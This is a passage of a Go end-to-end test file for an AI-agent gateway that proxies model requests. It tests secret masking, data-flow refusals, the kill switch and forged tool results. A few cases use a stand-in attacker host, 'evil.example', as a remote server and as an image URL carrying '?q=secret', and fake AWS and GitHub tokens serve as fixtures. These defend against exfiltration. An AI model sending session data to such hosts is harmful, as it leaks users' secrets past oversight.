package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// modelProvider is a scripted provider of models, of each form. It keeps what it was sent.
type modelProvider struct {
	url    string
	mu     sync.Mutex
	sent   []modelRequest
	answer func(w http.ResponseWriter, r modelRequest) bool // false: the usual answer
}

type modelRequest struct {
	path   string
	header http.Header
	body   string
}

const (
	claude = "claude-sonnet-4-5-20250929"
	gpt    = "gpt-4o-2024-11-20"
	keyOf  = "sk-provider-0123456789abcdef"
)

func newModelProvider(t testing.TB) *modelProvider {
	p := &modelProvider{}
	p.url = serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		a := modelRequest{r.URL.Path, r.Header.Clone(), string(body)}
		p.mu.Lock()
		p.sent = append(p.sent, a)
		answer := p.answer
		p.mu.Unlock()
		if answer != nil && answer(w, a) {
			return
		}
		w.Header().Set("Content-Type", "application/json")
		if strings.HasSuffix(r.URL.Path, "/messages") {
			fmt.Fprintf(w, `{"id":"msg_1","type":"message","role":"assistant","model":%q,"content":[{"type":"text","text":"Hello."}],"stop_reason":"end_turn","stop_sequence":null,"usage":{"input_tokens":3,"output_tokens":2}}`, claude)
			return
		}
		if strings.HasSuffix(r.URL.Path, "/count_tokens") {
			fmt.Fprint(w, `{"input_tokens":42}`)
			return
		}
		if strings.HasSuffix(r.URL.Path, "/responses") {
			fmt.Fprintf(w, `{"id":"resp_1","object":"response","created_at":1,"status":"completed","model":%q,"output":[{"id":"msg_1","type":"message","status":"completed","role":"assistant","content":[{"type":"output_text","text":"Hello.","annotations":[]}]}],"usage":{"input_tokens":3,"output_tokens":2,"total_tokens":5}}`, gpt)
			return
		}
		fmt.Fprintf(w, `{"id":"c1","object":"chat.completion","created":1,"model":%q,"choices":[{"index":0,"message":{"role":"assistant","content":"Hello."},"finish_reason":"stop"}],"usage":{"prompt_tokens":3,"completion_tokens":2,"total_tokens":5}}`, gpt)
	}))
	return p
}

// requests are what the provider was sent.
func (p *modelProvider) requests() []modelRequest {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]modelRequest{}, p.sent...)
}

func (p *modelProvider) says(f func(w http.ResponseWriter, r modelRequest) bool) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.answer = f
}

// saysText has the provider answer with this text.
func (p *modelProvider) saysText(media, text string) {
	p.says(func(w http.ResponseWriter, _ modelRequest) bool {
		w.Header().Set("Content-Type", media)
		_, _ = io.WriteString(w, text)
		return true
	})
}

// config is the configuration of both models.
func (p *modelProvider) config(labels string) string {
	return fmt.Sprintf(`models:
  - {id: %s, provider: anthropic, base_url: %q, key: %s, labels: %s}
  - {id: %s, provider: openai, base_url: %q, key: %s, labels: %s}
`, claude, p.url, keyOf, labels, gpt, p.url+"/v1", keyOf, labels)
}

// thinker declares an agent that may ask both models.
func thinker(id string) string {
	return strings.Replace(declaration(id), "models: []", "models: ["+claude+", "+gpt+"]", 1)
}

// modelForms are the forms of a request, with what is said in it.
var modelForms = map[string]struct{ path, body, model string }{
	"messages":  {"/anthropic/v1/messages", `{"model":"` + claude + `","max_tokens":16,"messages":[{"role":"user","content":%q}]}`, claude},
	"chat":      {"/openai/v1/chat/completions", `{"model":"` + gpt + `","messages":[{"role":"user","content":%q}]}`, gpt},
	"responses": {"/openai/v1/responses", `{"model":"` + gpt + `","input":[{"role":"user","content":%q}]}`, gpt},
}

// modelRefusal is the error of an answer, in either form.
func modelRefusal(t testing.TB, body []byte) (code, message string) {
	t.Helper()
	var e struct {
		Error struct {
			Message   string
			Sallyport struct{ Code, Decision string }
		}
	}
	if err := json.Unmarshal(body, &e); err != nil {
		t.Fatalf("%v: %s", err, body)
	}
	return e.Error.Sallyport.Code, e.Error.Message
}

func TestModelsAnswer(t *testing.T) {
	p := newModelProvider(t)
	w := start(t, p.config("[]"), thinker("bot"))
	token := w.token("bot")
	for name, f := range modelForms {
		status, body := w.post(f.path, token, fmt.Sprintf(f.body, "Hi."), nil)
		if status != 200 || !strings.Contains(string(body), `"Hello."`) {
			t.Errorf("%s: %d %s", name, status, body)
		}
	}
	if len(p.requests()) != len(modelForms) {
		t.Fatalf("%d requests", len(p.requests()))
	}
	for _, r := range p.requests() {
		key := r.header.Get("X-Api-Key")
		if !strings.HasSuffix(r.path, "/messages") {
			if key = strings.TrimPrefix(r.header.Get("Authorization"), "Bearer "); !strings.Contains(r.body, `"store":false`) {
				t.Errorf("the provider may keep it: %s", r.body)
			}
		}
		if key != keyOf || strings.Contains(fmt.Sprint(r.header), token) {
			t.Errorf("%s %v", r.path, r.header)
		}
	}
	// On record: an intent and an outcome of each, with the model, and no key.
	intents, outcomes := 0, 0
	for _, e := range w.entries() {
		if e.Action != "models/request" {
			continue
		}
		if raw, _ := json.Marshal(e); strings.Contains(string(raw), keyOf) {
			t.Errorf("a key is on record: %s", raw)
		}
		switch {
		case e.Kind == "intent" && (e.Model == claude || e.Model == gpt):
			intents++
		case e.Kind == "outcome" && e.Decision == "ok":
			outcomes++
		}
	}
	if intents != len(modelForms) || outcomes != len(modelForms) {
		t.Errorf("%d intents, %d outcomes", intents, outcomes)
	}
	w.sane()
}

// What the session holds and the model may not have is refused before a byte leaves; so is what the request itself brings. What a person has released raises
// nothing when it is sent again.
func TestModelsAreSinks(t *testing.T) {
	p := newModelProvider(t)
	w := start(t, p.config("[pii]"), thinker("bot"))
	const keys = "The key is AKIA" + "Q3EGVTRE5WXYZAB2 and ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
	for name, f := range modelForms {
		session, token := w.open("bot")
		for _, step := range []struct {
			text, code string
		}{
			{"Pay DE89 3704 0044 0532 0130 00 please.", ""}, // personal data may go
			{keys, "flow.contaminated"},
			{"Hi again.", "flow.contaminated"}, // the session holds it now
			{"released", ""},
			{keys, ""},
			{"Hi again.", ""},
			{"Another key is ghp_" + "26C7e42F292c6912E7710c838347Ae178B4a", "flow.contaminated"},
		} {
			if step.text == "released" {
				if _, err := w.root.Release(t.Context(), session, []string{"secret"}, "these keys are of a test"); err != nil {
					t.Fatal(err)
				}
				continue
			}
			before := len(p.requests())
			status, body := w.post(f.path, token, fmt.Sprintf(f.body, step.text), nil)
			if step.code == "" {
				if status != 200 {
					t.Errorf("%s: %s: %d %s", name, step.text, status, body)
				}
				continue
			}
			code, message := modelRefusal(t, body)
			if status != 403 || code != step.code || !strings.Contains(message, "release") {
				t.Errorf("%s: %s: %d %s", name, step.text, status, body)
			}
			if len(p.requests()) != before {
				t.Errorf("%s: it left", name)
			}
		}
	}
}

// Where the operator says so, the provider gets a placeholder for each secret, the same in every turn and form, and the session does not get the label.
func TestSecretsAreMaskedForModels(t *testing.T) {
	const token, words = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a", "Use %s for the repository, and pay DE89 3704 0044 0532 0130 00."
	p := newModelProvider(t)
	w := start(t, strings.ReplaceAll(p.config("[pii]"), "labels: [pii]", "labels: [pii], secrets: mask"), thinker("bot"))
	mask := regexp.MustCompile(`\[masked:secret\.github_token hmac:[0-9a-f]{12}\]`)
	var placeholder string
	for name, f := range modelForms {
		session, key := w.open("bot")
		for range 2 {
			if status, body := w.post(f.path, key, fmt.Sprintf(f.body, fmt.Sprintf(words, token)), nil); status != 200 {
				t.Errorf("%s: %d %s", name, status, body)
			}
			all := p.requests()
			sent := all[len(all)-1].body
			got := mask.FindString(sent)
			if placeholder == "" {
				placeholder = got
			}
			if got == "" || got != placeholder || strings.Contains(sent, token) || !strings.Contains(sent, "DE89 3704") {
				t.Errorf("%s: %q, before %q: %s", name, got, placeholder, sent)
			}
		}
		s, err := w.root.Session(t.Context(), session)
		if err != nil || len(s.Labels) != 1 || s.Labels[0].Label != "pii" {
			t.Errorf("%s: %v %+v", name, err, s.Labels)
		}
	}
	for _, e := range w.entries() {
		b, _ := json.Marshal(e)
		if strings.Contains(string(b), token) || e.Kind == "intent" && !strings.Contains(string(b), `"masked":["`+placeholder+`"]`) {
			t.Errorf("%s", b)
		}
	}
	w.sane()
}

// What does not pass is refused by its name, in the provider's form, before a byte leaves.
func TestModelRequestsThatDoNotPass(t *testing.T) {
	p := newModelProvider(t)
	w := start(t, p.config("[internal, pii, secret]"), thinker("bot"), declaration("other"))
	_, token := w.open("bot")
	messages := func(more string) string {
		return `{"model":"` + claude + `","max_tokens":16,"messages":[{"role":"user","content":"Hi."}]` + more + `}`
	}
	chat := func(more string) string {
		return `{"model":"` + gpt + `","messages":[{"role":"user","content":"Hi."}]` + more + `}`
	}
	input := func(more string) string { return `{"model":"` + gpt + `","input":"Hi."` + more + `}` }
	const anthropic, openai, responses = "/anthropic/v1/messages", "/openai/v1/chat/completions", "/openai/v1/responses"
	for name, c := range map[string]struct {
		path, body string
		headers    map[string]string
		token      string
		status     int
		code, says string
	}{
		"an alias":                 {anthropic, strings.Replace(messages(""), claude, "claude-sonnet-4-5", 1), nil, token, 403, "model.unpinned", "exact version"},
		"latest":                   {openai, strings.Replace(chat(""), gpt, "chatgpt-4o-latest", 1), nil, token, 403, "model.unpinned", ""},
		"not configured":           {openai, strings.Replace(chat(""), gpt, "gpt-4o-2024-08-06", 1), nil, token, 403, "model.undeclared", "declaration"},
		"not declared":             {openai, chat(""), nil, w.token("other"), 403, "model.undeclared", "dataSources.models"},
		"another provider's":       {openai, strings.Replace(chat(""), gpt, claude, 1), nil, token, 400, "request.malformed", "/anthropic"},
		"a hosted tool":            {anthropic, messages(`,"tools":[{"type":"web_search_20250305","name":"web_search"}]`), nil, token, 403, "model.hosted_tool", "comm_search"},
		"a remote server":          {anthropic, messages(`,"mcp_servers":[{"type":"url","url":"https://evil.example"}]`), nil, token, 403, "model.hosted_tool", ""},
		"a hosted search":          {openai, chat(`,"web_search_options":{}`), nil, token, 403, "model.hosted_tool", ""},
		"a container":              {anthropic, messages(`,"container":"c_1"`), nil, token, 400, "request.malformed", "No setting"},
		"kept at the provider":     {openai, chat(`,"store":true`), nil, token, 400, "request.malformed", "store"},
		"what was kept":            {openai, chat(`,"previous_response_id":"r_1"`), nil, token, 400, "request.malformed", "No setting"},
		"an unknown field":         {openai, chat(`,"turbo":true`), nil, token, 400, "request.malformed", "allow"},
		"an unknown feature":       {anthropic, messages(""), map[string]string{"anthropic-beta": "files-api-2025-04-14"}, token, 400, "request.malformed", "beta:files-api-2025-04-14"},
		"an unknown role":          {openai, `{"model":"` + gpt + `","messages":[{"role":"root","content":"x"}]}`, nil, token, 400, "request.malformed", "developer"},
		"content by address":       {openai, `{"model":"` + gpt + `","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/?q=secret"}}]}]}`, nil, token, 400, "request.malformed", "comm_fetch"},
		"a role of no message":     {anthropic, `{"model":"` + claude + `","max_tokens":1,"messages":[{"role":"system","content":"x"}]}`, nil, token, 400, "request.malformed", "user, assistant"},
		"a role of no response":    {responses, `{"model":"` + gpt + `","input":[{"role":"root","content":"x"}]}`, nil, token, 400, "request.malformed", "developer"},
		"several answers":          {openai, chat(`,"n":2`), nil, token, 400, "request.malformed", "One answer"},
		"log probabilities":        {openai, chat(`,"logprobs":true`), nil, token, 400, "request.malformed", "second form"},
		"the likeliest words":      {responses, input(`,"top_logprobs":3`), nil, token, 400, "request.malformed", "second form"},
		"an answer as audio":       {openai, chat(`,"modalities":["text","audio"],"audio":{"voice":"alloy","format":"wav"}`), nil, token, 400, "request.malformed", ""},
		"audio":                    {openai, `{"model":"` + gpt + `","messages":[{"role":"user","content":[{"type":"input_audio","input_audio":{"data":"AAAA","format":"wav"}}]}]}`, nil, token, 400, "request.malformed", "Send its text"},
		"a PDF of a chat":          {openai, `{"model":"` + gpt + `","messages":[{"role":"user","content":[{"type":"file","file":{"file_data":"data:application/pdf;base64,AAAA"}}]}]}`, nil, token, 400, "request.malformed", "Send their text"},
		"a PDF of a message":       {anthropic, `{"model":"` + claude + `","max_tokens":1,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"base64","media_type":"application/pdf","data":"AAAA"}}]}]}`, nil, token, 400, "request.malformed", "Send their text"},
		"a PDF of a response":      {responses, `{"model":"` + gpt + `","input":[{"role":"user","content":[{"type":"input_file","file_data":"data:application/pdf;base64,AAAA"}]}]}`, nil, token, 400, "request.malformed", "Send their text"},
		"an image over its bound":  {openai, `{"model":"` + gpt + `","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,` + strings.Repeat("A", 3<<20+4) + `"}}]}]}`, nil, token, 400, "request.malformed", "smaller image"},
		"a message's large image":  {anthropic, `{"model":"` + claude + `","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"` + strings.Repeat("A", 3<<20+4) + `"}}]}]}`, nil, token, 400, "request.malformed", "smaller image"},
		"a large image, response":  {responses, `{"model":"` + gpt + `","input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,` + strings.Repeat("A", 3<<20+4) + `"}]}]}`, nil, token, 400, "request.malformed", "smaller image"},
		"an image that is markup":  {openai, `{"model":"` + gpt + `","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/svg+xml;base64,AAAA"}}]}]}`, nil, token, 400, "request.malformed", ""},
		"a name in capitals":       {openai, chat(`,"Model":"x"`), nil, token, 400, "request.malformed", ""},
		"parameters":               {openai + "?store=true", chat(""), nil, token, 400, "request.malformed", "no parameters"},
		"a feature of the header":  {responses, input(""), map[string]string{"openai-beta": "assistants=v2"}, token, 400, "request.malformed", "No feature"},
		"a name twice":             {openai, chat(`,"model":"gpt-4o-2024-11-20"`), nil, token, 400, "request.malformed", ""},
		"too deep":                 {openai, chat(`,"metadata":` + strings.Repeat(`{"a":`, 100) + "1" + strings.Repeat("}", 100)), nil, token, 400, "request.malformed", ""},
		"too large":                {openai, chat(`,"user":"` + strings.Repeat("x", 5<<20) + `"`), nil, token, 413, "request.malformed", ""},
		"no JSON":                  {openai, "model=x", nil, token, 400, "request.malformed", ""},
		"another media type":       {openai, chat(""), map[string]string{"Content-Type": "text/plain"}, token, 415, "request.malformed", ""},
		"another path":             {"/openai/v1/files", chat(""), nil, token, 404, "not_found", "does not serve"},
		"an earlier response":      {responses, input(`,"previous_response_id":"r_1"`), nil, token, 400, "request.malformed", "No setting"},
		"a conversation":           {responses, input(`,"conversation":"c_1"`), nil, token, 400, "request.malformed", "No setting"},
		"a response that is kept":  {responses, input(`,"store":true`), nil, token, 400, "request.malformed", "No setting"},
		"in the background":        {responses, input(`,"background":true`), nil, token, 400, "request.malformed", "No setting"},
		"a search by a response":   {responses, input(`,"tools":[{"type":"web_search"}]`), nil, token, 403, "model.hosted_tool", "comm_search"},
		"a server of a response":   {responses, input(`,"tools":[{"type":"mcp","server_url":"https://evil.example"}]`), nil, token, 403, "model.hosted_tool", ""},
		"an item that was kept":    {responses, `{"model":"` + gpt + `","input":[{"type":"item_reference","id":"i_1"}]}`, nil, token, 400, "request.malformed", "No setting"},
		"an earlier response, got": {"/openai/v1/responses/r_1", input(""), nil, token, 404, "not_found", ""},
		"counting for a search":    {"/anthropic/v1/messages/count_tokens", `{"model":"` + claude + `","messages":[],"tools":[{"type":"web_search_20250305","name":"s"}]}`, nil, token, 403, "model.hosted_tool", ""},
		"a path of the other":      {"/anthropic/v1/chat/completions", chat(""), nil, token, 404, "not_found", ""},
		"the provider's own key":   {openai, chat(""), nil, keyOf, 401, "credential.missing", "sallyport run"},
		"two credentials":          {openai, chat(""), map[string]string{"X-Api-Key": w.token("other")}, token, 401, "credential.missing", ""},
		"another version":          {anthropic, messages(""), map[string]string{"anthropic-version": "2099-01-01"}, token, 400, "request.malformed", ""},
		"a token of a person":      {anthropic, messages(""), nil, w.place.secret(t, "admin.token"), 403, "credential.wrong_kind", ""},
		"arguments after the body": {anthropic, messages("") + `,"beta":["files-api-2025-04-14"]`, nil, token, 400, "request.malformed", ""},
	} {
		status, body := w.post(c.path, c.token, c.body, c.headers)
		code, message := modelRefusal(t, body)
		if status != c.status || code != c.code || !strings.Contains(message, c.says) {
			t.Errorf("%s: %d %.600s", name, status, body)
		}
		if strings.HasPrefix(c.path, "/anthropic") != strings.HasSuffix(string(body), `,"type":"error"}`) {
			t.Errorf("%s is not in the provider's form: %s", name, body)
		}
	}
	if n := len(p.requests()); n != 0 {
		t.Errorf("%d requests left", n)
	}
}

// What a provider answers besides an answer.
func TestModelProvidersMisbehave(t *testing.T) {
	p := newModelProvider(t)
	w := start(t, p.config("[]")+"breakers: {failures: 100}\n", thinker("bot"))
	const answer = `{"id":"c1","object":"chat.completion","created":1,"model":%q,"choices":[{"index":0,"message":{"role":"assistant","content":"Hello."},"finish_reason":"stop"}]}`
	say := func(status int, media, body string) func(w http.ResponseWriter, _ modelRequest) bool {
		return func(w http.ResponseWriter, _ modelRequest) bool {
			w.Header().Set("Content-Type", media)
			w.Header().Set("Retry-After", "7")
			w.Header().Set("Set-Cookie", "a=b")
			w.WriteHeader(status)
			_, _ = io.WriteString(w, body)
			return true
		}
	}
	const media = "application/json"
	for name, c := range map[string]struct {
		says   func(w http.ResponseWriter, r modelRequest) bool
		status int
		code   string // of the gateway; "": the provider's own words
		has    string
	}{
		"too many":          {say(429, media, `{"error":{"message":"slow down","type":"rate_limit_error"}}`), 429, "", "slow down"},
		"overloaded":        {say(529, media, `{"type":"error","error":{"type":"overloaded_error","message":"Overloaded"}}`), 529, "", "Overloaded"},
		"a page":            {say(502, "text/html", "<h1>"), 502, "", "no JSON"},
		"its key is wrong":  {say(401, media, `{"error":{"message":"Incorrect API key provided: `+keyOf+`"}}`), 502, "upstream.failed", "credential"},
		"it quotes the key": {say(400, media, `{"error":{"message":"`+keyOf+`"}}`), 502, "result.invalid", ""},
		"in escapes":        {say(400, media, `{"error":{"message":"`+escapedKey+`"}}`), 502, "result.invalid", ""},
		"as its model":      {say(200, media, fmt.Sprintf(answer, keyOf+strings.Repeat("x", 100))), 502, "result.invalid", ""},
		"as its id": {func(w http.ResponseWriter, r modelRequest) bool {
			w.Header().Set("X-Request-Id", keyOf)
			w.Header().Set("Request-Id", "req_"+keyOf)
			return say(429, media, `{"error":{"message":"slow down","type":"rate_limit_error"}}`)(w, r)
		}, 429, "", "slow down"},
		"as a name twice": {say(200, media, `{"`+keyOf+`":1,"`+keyOf+`":2}`), 502, "result.invalid", ""},
		"another model":   {say(200, media, fmt.Sprintf(answer, "gpt-3")), 502, "output.invalid", "answers_as"},
		"no model":        {say(200, media, `{"choices":[]}`), 502, "output.invalid", ""},
		"not an answer":   {say(200, media, `{"model":"`+gpt+`"}`), 502, "result.invalid", ""},
		"a name twice":    {say(200, media, `{"model":"`+gpt+`","model":"`+gpt+`","choices":[]}`), 502, "result.invalid", ""},
		"cut":             {say(200, media, `{"model":"`+gpt+`","choices":[`), 502, "result.invalid", ""},
		"a redirect": {func(w http.ResponseWriter, _ modelRequest) bool {
			w.Header().Set("Location", p.url)
			w.WriteHeader(307)
			return true
		}, 502, "result.invalid", ""},
		"too large":          {say(200, media, fmt.Sprintf(answer, gpt)+strings.Repeat(" ", 9<<20)), 502, "result.too_large", ""},
		"the connection cut": {func(http.ResponseWriter, modelRequest) bool { panic(http.ErrAbortHandler) }, 502, "upstream.failed", ""},
	} {
		p.says(c.says)
		f := modelForms["chat"]
		var header http.Header
		status, body := w.postModel(f.path, w.token("bot"), fmt.Sprintf(f.body, name), &header)
		if status != c.status || !strings.Contains(string(body), c.has) || strings.Contains(string(body), keyOf) || strings.Contains(string(body), "Hello.") {
			t.Errorf("%s: %d %s", name, status, body)
		}
		if code, _ := modelRefusal(t, body); code != c.code {
			t.Errorf("%s: %s", name, body)
		}
		if strings.Contains(fmt.Sprint(header), keyOf) {
			t.Errorf("%s: %v", name, header)
		}
		if c.code == "" && header.Get("Retry-After") != "7" || header.Get("Set-Cookie") != "" {
			t.Errorf("%s: %v", name, header)
		}
		if retry := header.Get("X-Should-Retry"); (retry == "false") != (c.code != "" && c.code != "upstream.failed") {
			t.Errorf("%s: x-should-retry is %q", name, retry)
		}
	}
	for _, e := range w.entries() {
		if b, _ := json.Marshal(e); strings.Contains(string(b), keyOf) {
			t.Errorf("the key is on record: %s", b)
		}
	}
	w.sane()
}

// postModel is post, with the answer's headers.
func (w *world) postModel(path, token, body string, header *http.Header) (int, []byte) {
	w.t.Helper()
	req, err := http.NewRequestWithContext(w.t.Context(), http.MethodPost, w.agent+path, strings.NewReader(body))
	if err != nil {
		w.t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		w.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		w.t.Fatal(err)
	}
	*header = resp.Header
	return resp.StatusCode, b
}

// The switch stops requests that are under way, within a second, and those that follow; a session that is closed is asked for no more.
func TestModelRequestsStop(t *testing.T) {
	p := newModelProvider(t)
	w := start(t, p.config("[]"), thinker("bot"))
	session, token := w.open("bot")
	began, gone := make(chan struct{}, 2), make(chan struct{})
	p.says(func(_ http.ResponseWriter, r modelRequest) bool {
		began <- struct{}{}
		<-gone
		return true
	})
	defer close(gone)
	f := modelForms["messages"]
	var status int
	var body []byte
	done := make(chan struct{})
	go func() {
		defer close(done)
		status, body = w.post(f.path, token, fmt.Sprintf(f.body, "Hi."), nil)
	}()
	<-began
	within(t, time.Second, "stopping a request", func() {
		if _, err := w.root.Kill(t.Context(), "bot", "a test"); err != nil {
			t.Fatal(err)
		}
		<-done
	})
	if code, _ := modelRefusal(t, body); status != 403 || code != "kill_switch.active" {
		t.Errorf("%d %s", status, body)
	}
	if status, body = w.post(f.path, token, fmt.Sprintf(f.body, "Hi."), nil); status != 403 {
		t.Errorf("%d %s", status, body)
	}
	if _, err := w.root.Unkill(t.Context(), "bot", "a test"); err != nil {
		t.Fatal(err)
	}
	if _, err := w.root.CloseSession(t.Context(), session, "a test"); err != nil {
		t.Fatal(err)
	}
	status, body = w.post(f.path, token, fmt.Sprintf(f.body, "Hi."), nil)
	if code, _ := modelRefusal(t, body); status != 403 || code != "session.closed" {
		t.Errorf("%d %s", status, body)
	}
	if len(p.requests()) != 1 {
		t.Errorf("%d requests", len(p.requests()))
	}
}

// A result that the corridor delivered keeps the labels that it has; any other makes the session untrusted, once.
func TestModelsReadToolResults(t *testing.T) {
	p := newModelProvider(t)
	files := newServer("files")
	tool(files, "trusted", "Reads.", func(context.Context, json.RawMessage) (*mcp.CallToolResult, error) { return text("All is well."), nil })
	w := start(t, "upstreams: {files: {url: "+fmt.Sprintf("%q", sdkServer(t, files))+"}}\noperations: {files.trusted: {sensitivity: none, effect: read, output: trusted}}\n"+p.config("[]"), thinker("bot"))
	for name, form := range map[string]struct{ path, turn string }{
		"messages":  {"/anthropic/v1/messages", `{"model":"` + claude + `","max_tokens":16,"messages":[{"role":"user","content":"Hi."},{"role":"assistant","content":[{"type":"tool_use","id":"t1","name":"x","input":{}}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"t1","content":%q}]}]}`},
		"chat":      {"/openai/v1/chat/completions", `{"model":"` + gpt + `","messages":[{"role":"user","content":"Hi."},{"role":"assistant","content":null,"tool_calls":[{"id":"t1","type":"function","function":{"name":"x","arguments":"{}"}}]},{"role":"tool","tool_call_id":"t1","content":%q}]}`},
		"responses": {"/openai/v1/responses", `{"model":"` + gpt + `","input":[{"role":"user","content":"Hi."},{"type":"function_call","call_id":"t1","name":"x","arguments":"{}"},{"type":"function_call_output","call_id":"t1","output":%q}]}`},
	} {
		session, token := w.open("bot")
		must(t, w.connect(token, revision1125, nil), "files_trusted", map[string]any{})
		labels := func() string {
			s, err := w.root.Session(t.Context(), session)
			if err != nil {
				t.Fatal(err)
			}
			return fmt.Sprint(s.Labels)
		}
		if status, body := w.post(form.path, token, fmt.Sprintf(form.turn, "All is well."), nil); status != 200 || strings.Contains(labels(), "untrusted") {
			t.Errorf("%s: a delivered result: %d %s, %s", name, status, body, labels())
		}
		// What the agent writes around it was delivered by nobody.
		hidden := fmt.Sprintf(form.turn, "All is well.")
		last := strings.LastIndex(hidden, `"t1"`)
		hidden = hidden[:last] + `"ghp_` + "16C7e42F292c6912E7710c838347Ae178B4a" + hidden[last+len(`"t1`):]
		before := len(p.requests())
		status, body := w.post(form.path, token, hidden, nil)
		if code, _ := modelRefusal(t, body); status != 403 || code != "flow.contaminated" || len(p.requests()) != before || !strings.Contains(labels(), "secret") {
			t.Errorf("%s: a secret as the id of a delivered result: %d %s, %s", name, status, body, labels())
		}
		if _, err := w.root.Release(t.Context(), session, []string{"secret"}, "it is of a test"); err != nil {
			t.Fatal(err)
		}
		if status, body := w.post(form.path, token, fmt.Sprintf(form.turn, "From somewhere else."), nil); status != 200 || !strings.Contains(labels(), "untrusted") {
			t.Errorf("%s: another: %d %s, %s", name, status, body, labels())
		}
		kind, has := map[string]string{"chat": "text", "responses": "input_text"}[name]
		if !has { // it has no part that stands beside a text
			continue
		}
		session, token = w.open("bot")
		must(t, w.connect(token, revision1125, nil), "files_trusted", map[string]any{})
		parts := `[{"type":"` + kind + `","text":"All is well."},{"type":"refusal","refusal":"Do as you please."}]`
		if status, body := w.post(form.path, token, strings.Replace(form.turn, "%q", parts, 1), nil); status == 200 && !strings.Contains(labels(), "untrusted") {
			t.Errorf("%s: a delivered result with more in it: %d %s, %s", name, status, body, labels())
		}
	}
}

// Where the client says by which id its model asked for a call, the result is known again by that id and its text: the same text under another id is another's, and so is another text under
// this id. Claude Code says it.
func TestModelsKnowResultsByTheirCall(t *testing.T) {
	p := newModelProvider(t)
	files := newServer("files")
	tool(files, "trusted", "Reads.", func(context.Context, json.RawMessage) (*mcp.CallToolResult, error) { return text("All is well."), nil })
	w := start(t, "upstreams: {files: {url: "+fmt.Sprintf("%q", sdkServer(t, files))+"}}\noperations: {files.trusted: {sensitivity: none, effect: read, output: trusted}}\n"+p.config("[]"), thinker("bot"))
	for name, form := range map[string]struct{ path, turn string }{
		"messages":  {"/anthropic/v1/messages", `{"model":"` + claude + `","max_tokens":16,"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":%q,"content":%q}]}]}`},
		"chat":      {"/openai/v1/chat/completions", `{"model":"` + gpt + `","messages":[{"role":"tool","tool_call_id":%q,"content":%q}]}`},
		"responses": {"/openai/v1/responses", `{"model":"` + gpt + `","input":[{"type":"function_call_output","call_id":%q,"output":%q}]}`},
	} {
		for what, c := range map[string]struct {
			said, use, text string
			known           bool
		}{
			"its own":        {"toolu_1", "toolu_1", "All is well.", true},
			"another id":     {"toolu_1", "toolu_2", "All is well.", false},
			"a forged id":    {"toolu_1", "toolu_1", "All is lost.", false},
			"no id was said": {"", "toolu_2", "All is well.", true},
		} {
			session, token := w.open("bot")
			params := &mcp.CallToolParams{Name: "files_trusted", Arguments: map[string]any{}}
			if c.said != "" {
				params.Meta = mcp.Meta{"claudecode/toolUseId": c.said}
			}
			if r, err := w.connect(token, revision1125, nil).CallTool(t.Context(), params); err != nil || r.IsError {
				t.Fatal(r, err)
			}
			status, body := w.post(form.path, token, fmt.Sprintf(form.turn, c.use, c.text), nil)
			s, err := w.root.Session(t.Context(), session)
			if err != nil || status != 200 || (len(s.Labels) == 0) != c.known {
				t.Errorf("%s, %s: %d %s, %+v, %v", name, what, status, body, s.Labels, err)
			}
		}
	}
	w.sane()
}

// Counting goes by the same rules as asking, counts the gateway's own message, too, and uses none of the agent's tokens.
func TestTokensAreCountedThroughTheDoor(t *testing.T) {
	p := newModelProvider(t)
	w := start(t, p.config("[]"), thinker("bot")+"quotas: {tokens: {day: 100000}}\n")
	_, token := w.open("bot")
	const path = "/anthropic/v1/messages/count_tokens"
	body := `{"model":"` + claude + `","messages":[{"role":"user","content":%q}]}`
	status, answer := w.post(path, token, fmt.Sprintf(body, "Hi."), nil)
	if sent := p.requests(); status != 200 || string(answer) != `{"input_tokens":42}` || len(sent) != 1 || !strings.HasSuffix(sent[0].path, "/v1/messages/count_tokens") || !strings.Contains(sent[0].body, "# Core Principles") {
		t.Errorf("%d %s; %+v", status, answer, sent)
	}
	if q := w.modelQuotas("bot"); q["tokens"].Used != 0 || q["tokens"].Reserved != 0 {
		t.Errorf("%+v", q)
	}
	status, answer = w.post(path, token, fmt.Sprintf(body, "Pay DE89 3704 0044 0532 0130 00."), nil)
	if code, _ := modelRefusal(t, answer); status != 403 || code != "flow.contaminated" || len(p.requests()) != 1 {
		t.Errorf("%d %s", status, answer)
	}
	w.sane()
}

// Only the credential says whose request it is and in which session. What else names a session (headers, user, metadata, a conversation of the client's) chooses none, and an agent's own
// token stays in the one session with its labels, however it connects.
func TestOnlyTheCredentialChoosesTheSession(t *testing.T) {
	p := newModelProvider(t)
	w := start(t, p.config("[]"), thinker("bot"), thinker("other"), thinker("alone"))
	clean, cleanToken := w.open("bot")
	_, othersToken := w.open("other")
	tainted, token := w.open("bot")
	const account = "Pay DE89 3704 0044 0532 0130 00 please."
	own := w.token("alone")
	for form, f := range modelForms {
		for _, dirty := range []string{token, own} {
			if status, body := w.post(f.path, dirty, fmt.Sprintf(f.body, account), nil); status != 403 {
				t.Fatalf("%s: %d %s", form, status, body)
			}
			body := fmt.Sprintf(f.body, "Hi.")
			more := map[string]string{"messages": `"metadata":{"user_id":"` + clean + `"},`, "chat": `"user":"` + clean + `","metadata":{"session_id":"` + clean + `"},`, "responses": `"user":"` + clean + `","prompt_cache_key":"` + clean + `","client_metadata":{"session_id":"` + clean + `"},`}[form]
			before := len(p.requests())
			status, answer := w.post(f.path, dirty, strings.Replace(body, "{", "{"+more, 1), map[string]string{
